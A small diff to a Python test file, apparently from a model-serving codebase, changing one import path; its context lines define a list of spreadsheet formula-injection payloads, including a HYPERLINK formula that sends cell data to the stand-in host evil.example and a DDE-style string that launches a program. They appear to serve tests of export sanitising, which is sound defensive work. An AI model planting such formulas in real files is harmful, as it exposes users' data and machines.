@@ -26,7 +26,7 @@ from inference.registry.services import external_version
 from inference.runtime.session import ModelRefused, load_session
 from inference.serving.plan import Plan, publish_plan
 from monitors.metrics.models import MetricPoint
-from tests.flows.world import make_model
+from tests.worlds.approvals import make_model
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "@SUM(1+1)*cmd", "\t=1+1", "-1+cmd|' /C calc'!A0"]
 NAMES = [
